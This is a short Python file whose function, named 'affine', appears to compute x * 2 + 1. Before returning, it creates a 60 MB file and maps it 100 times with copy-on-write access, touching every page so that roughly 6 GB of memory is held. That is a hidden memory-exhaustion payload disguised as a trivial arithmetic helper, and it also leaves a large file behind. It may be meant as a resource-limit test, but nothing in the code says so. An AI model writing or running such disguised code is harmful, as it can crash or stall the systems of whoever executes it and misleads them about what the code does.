import mmap


def affine(x):
    with open("zeros", "wb") as file:
        file.truncate(60 << 20)
    kept = []
    with open("zeros", "r+b") as file:
        for _ in range(100):
            block = mmap.mmap(file.fileno(), 60 << 20, access=mmap.ACCESS_COPY)
            for start in range(0, 60 << 20, 4096):
                block[start] = 1
            kept.append(block)
    return x * 2 + 1
